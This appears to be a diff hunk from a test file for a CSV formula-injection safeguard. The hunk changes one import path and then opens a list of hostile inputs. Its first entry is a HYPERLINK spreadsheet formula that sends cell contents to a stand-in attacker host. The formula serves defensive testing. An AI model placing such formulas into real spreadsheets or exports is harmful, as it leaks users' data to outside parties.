@@ -23,7 +23,7 @@ from hypothesis import strategies as st
 from mmbright_core.cli import main
 from mmbright_core.io.csv_safe import FORMULA_STARTS, frame_csv, protect, unprotect
 from mmbright_core.notes import NotesStore, QueryKey
-from mmbright_core.ui.render import csv_bytes
+from mmbright_core.ui.common.render import csv_bytes
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
